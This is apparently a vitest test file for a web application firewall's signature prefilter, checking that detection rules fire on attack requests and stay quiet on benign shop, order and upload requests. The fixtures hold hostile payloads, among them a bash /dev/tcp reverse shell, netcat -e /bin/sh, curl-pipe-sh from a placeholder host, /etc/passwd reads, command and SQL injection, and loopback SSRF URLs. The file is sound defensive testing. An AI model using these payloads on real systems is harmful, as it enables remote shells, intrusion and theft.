/**
 * The bundled pcre-only rules that ran their regex on every request (no literal the prefilter could
 * use: a backtick, a caret, `$_GET[` in every encoding, a separator and a command) now sit in the
 * prefilter: each is a candidate only when one of its necessary literals occurs, still fires on its
 * attack, and is not even a candidate on long benign prose (the load bench's 4 KB multipart note).
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { loadRuleSet } from '../../src/signatures/load-rule-set.js';
import { compileRules, type CompiledSignatureGate } from '../../src/signatures/compile/compile-rules.js';
import type { Rule } from '../../src/signatures/rule.js';
import type { RequestSpec } from './fixtures.js';
import { buildInspection } from './fixtures.js';
import { BROWSER, BUNDLED_RULES, form, header, json, q } from './bundled-requests.js';

const NOTE = 'Day 3: rain in the morning, sun after lunch; walked 18 km along the ridge to the hut.\n'.repeat(48);
const B = 'nb7MA4YWxkTrZu0gW';
const upload: RequestSpec = {
  method: 'POST',
  url: '/upload',
  headers: [...BROWSER, ['Content-Type', `multipart/form-data; boundary=${B}`]],
  body: `--${B}\r\nContent-Disposition: form-data; name="title"\r\n\r\nTrip notes\r\n--${B}\r\nContent-Disposition: form-data; name="file"; filename="notes.txt"\r\nContent-Type: text/plain\r\n\r\n${NOTE}\r\n--${B}--\r\n`,
};

// [sid, attack, quiet on the multipart note: not even a candidate]
const CASES: Array<[number, RequestSpec, boolean]> = [
  [9000317, q('name=x%60id%60'), true],
  [9000317, json('{"host":"a$(whoami)"}'), true],
  [9000309, q('ip=1%26w%5Eh%5Eo%5Ea%5Em%5Ei'), true],
  [9000342, form('cmd=for+/f+%22delims%3D%22+%25i+in+(%27whoami%27)+do+echo+%25i'), true],
  [9000365, q('query=-Oecho+x'), true],
  [9000343, q('query=+-Ocurl+http%3A%2F%2F203.0.113.9%2Fa'), true],
  [9000330, form('next=%0asys%5Et%5Eeminfo'), true],
  [9001315, form('x=%24_GET%5B%27f%27%5D(%24_GET%5B%27a%27%5D)'), true],
  [9000315, json('{"command":"bash -c \'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\'"}'), true],
  [9000315, q('x=%7Cnc+-e+%2Fbin%2Fsh+203.0.113.9+4444'), true],
  [9000314, header('SOAPAction', 'http://purenetworks.com/HNAP1/`wget http://x.test/a`'), false],
  [9000385, json('{"host":"127.0.0.1;sh -c id"}'), false],
];

let rules: Rule[];
beforeAll(async () => {
  rules = (await loadRuleSet([BUNDLED_RULES])).rules;
});
const gateOf = (sid: number): CompiledSignatureGate => compileRules(rules.filter((r) => r.sid === sid));

describe('bundled pcre-only rules in the prefilter', () => {
  it.each(CASES)('%i has a prefilter entry and still fires on its attack (%#)', (sid, attack) => {
    const gate = gateOf(sid);
    expect(gate.stats.rules).toBe(1);
    expect(gate.stats.alwaysEvaluated).toBe(0);
    expect(gate.evaluate(buildInspection({ headers: BROWSER, ...attack })).hits.map((h) => h.sid)).toEqual([sid]);
  });

  it.each(CASES.filter(([, , quiet]) => quiet))('%i is not a candidate on a 4 KB multipart note of prose (%#)', (sid) => {
    expect(gateOf(sid).evaluate(buildInspection(upload)).candidates).toBe(0);
  });

  it('9000528 and its parts 9000540/9000541 (a loopback host in a URL) are no candidates on a head whose Host is the loopback proxy but that holds no URL', () => {
    const gate = compileRules(rules.filter((r) => [9000528, 9000540, 9000541].includes(r.sid)));
    const hook = (body: string): RequestSpec => ({ method: 'POST', url: '/hook', headers: [['Host', '127.0.0.1:8080'], ['Content-Type', 'application/x-www-form-urlencoded']], body });
    // "127.0" is one of 9000528's triggers: the condition is the URL's `://`, in any of its spellings.
    expect(gate.evaluate(buildInspection(hook('note=walked+18+km'))).candidates).toBe(0);
    const cases: Array<[string, number]> = [
      ['url=http://127.1/admin', 9000540],
      ['url=http%3a%2f%2f127.0.1%2fadmin', 9000540],
      ['url=http://svc@0/admin', 9000541],
      ['url=http%3a%2f%2fa%40127.1%2f', 9000541],
      ['url=gopher:\\/\\/2130706433/_x', 9000528],
    ];
    for (const [body, sid] of cases) expect(gate.evaluate(buildInspection(hook(body))).hits.map((h) => h.sid), body).toEqual([sid]);
  });

  it('9000528 and its parts run on no URL that names an ordinary host, a port on the loopback, or an address (rev 2026-12-10u: 9000528 rev 3 ran on every URL)', () => {
    const gate = compileRules(rules.filter((r) => [9000528, 9000540, 9000541].includes(r.sid)));
    for (const spec of [
      json('{"callback":"https://hooks.example.com/a/b","avatar":"https://cdn.example.net/u/7.png"}'),
      form('return_to=https%3A%2F%2Fshop.example.org%2Fcart&ref=http%3A%2F%2Fblog.example.com%2F'),
      header('Referer', 'https://www.example.com/search?q=shoes'),
    ]) expect(gate.evaluate(buildInspection({ headers: BROWSER, ...spec })).candidates).toBe(0);
  });

  it('scans a long body once for its own and the raw request\'s literals: the two automata merged keep 16-bit cells', async () => {
    // 31,545 states merged at 393 rules, past the 32,768 a 16-bit table held while a flag bit took the top
    // bit: the bench's multipart and JSON bodies were scanned twice then (issue 14). Up to 65,536 now.
    const gate = (await loadRuleSet([BUNDLED_RULES])).gate;
    const shared = gate.stats.automata.find((a) => a.buffer === 'clientBody' && a.alsoFor === 'raw');
    expect(shared, 'no shared body-and-raw automaton: each long body is scanned twice').toBeDefined();
    expect(shared!.bytes).toBeLessThan(shared!.states * 256);
  });

  it('leaves at most a handful of the bundled rules evaluated on every request', async () => {
    const gate = (await loadRuleSet([BUNDLED_RULES])).gate;
    expect(gate.stats.alwaysEvaluated).toBeLessThanOrEqual(3);
  });
});

// The load bench's benign GET: "running shoes" holds "sh" and "run", "category" holds "cat", and the
// browser's Accept-Encoding holds "nc", so the command words alone made these rules run on it.
const SHOP_GET: RequestSpec = { url: '/catalog/search?q=running+shoes&category=men&size=42&color=blue&sort=price_asc&page=2', headers: BROWSER };

// [sid, attack]: rules needing a quote, a shell separator, `name=` or a URL scheme that the shop's GET lacks.
const URI_CASES: Array<[number, RequestSpec]> = [
  [9000107, q("id=1'--")],
  [9000301, q('file=a;cat+/etc/passwd')],
  [9000312, q('host=|cat+/etc/passwd')],
  [9000316, q('cmd=id')],
  // Triggered by `page=`, ruled out by its scheme set (file:, jar:, http://...) that the shop's GET lacks.
  [9001323, q('page=file:///etc/passwd')],
];

describe('bundled rules ruled out by the one character, field name or scheme a benign GET lacks', () => {
  it.each(URI_CASES)('%i still fires on its attack (%#)', (sid, attack) => {
    expect(gateOf(sid).evaluate(buildInspection({ headers: BROWSER, ...attack })).hits.map((h) => h.sid)).toEqual([sid]);
  });

  it.each(URI_CASES)('%i is not a candidate on a shop search with browser headers (%#)', (sid) => {
    expect(gateOf(sid).evaluate(buildInspection(SHOP_GET)).candidates).toBe(0);
  });
});

// The load bench's JSON order and sign-in form (bench/lib/scenarios.ts).
const ORDER_JSON: RequestSpec = json(
  '{"customer":{"id":48213,"name":"Ann Lee","email":"ann.lee@example.com"},"items":[{"sku":"RUN-42-BLU","qty":1,"price":89.99}],"comment":"Please leave the parcel with the neighbour at number 223 if nobody is home, thank you very much. "}',
);
const SIGN_IN: RequestSpec = form('email=ann.lee%40example.com&password=correct+horse+battery+staple&remember=on&next=%2Faccount%2Forders');

// [sid, attack, a benign bench request it is no candidate on, why]: a body rule whose everyday word
// ("id", "or", "sh") is ruled out by what has to stand next to it.
const BODY_CASES: Array<[number, RequestSpec, RequestSpec, string]> = [
  [9000302, json('{"host":"x;cat /etc/passwd"}'), ORDER_JSON, 'needs a shell separator (`;` alone counts in a body)'],
  [9000117, form('id=1+or+1&x=2'), SIGN_IN, 'needs a value that starts with a number (`=1`)'],
  [9000117, form('id=1+or+1&x=2'), upload, 'needs a value that starts with a number (`=1`)'],
  [9000321, form('cmd=sh+-c+%22curl+http://203.0.113.9/x|sh%22'), upload, 'needs `sh` and a space, not `\\n-` of a boundary line'],
  [9000385, q('host=x;sh+-c+id'), SHOP_GET, 'needs `sh` and a space, not "shoes"'],
];

// An API client's JSON order: "shipping" holds `pin` (9000314 rev 6's cut-down `ping `; 9000386's since rev 2026-12-10x), but the request has
// no shell separator anywhere (the raw request keeps `;` alone as a condition; a browser's User-Agent has one).
const API_ORDER: RequestSpec = {
  method: 'POST',
  url: '/api/v1/orders',
  headers: [['Host', 'api.example.com'], ['User-Agent', 'okhttp/4.12.0'], ['Content-Type', 'application/json']],
  body: '{"shipping":{"street":"221B Baker Street"},"items":[{"sku":"RUN-42-BLU","qty":1}]}',
};
BODY_CASES.push([9000386, json('{"host":"x;ping -c 3 a.b.example.com"}'), API_ORDER, 'needs a shell separator somewhere in the request']);

describe('bundled body rules ruled out by what must stand next to their everyday word', () => {
  it.each(BODY_CASES)('%i still fires on its attack (%#)', (sid, attack) => {
    expect(gateOf(sid).evaluate(buildInspection({ headers: BROWSER, ...attack })).hits.map((h) => h.sid)).toEqual([sid]);
  });

  it.each(BODY_CASES)('%i is not a candidate on a benign bench request (%#: %s)', (sid, _attack, benign) => {
    expect(gateOf(sid).evaluate(buildInspection({ headers: BROWSER, ...benign })).candidates).toBe(0);
  });
});
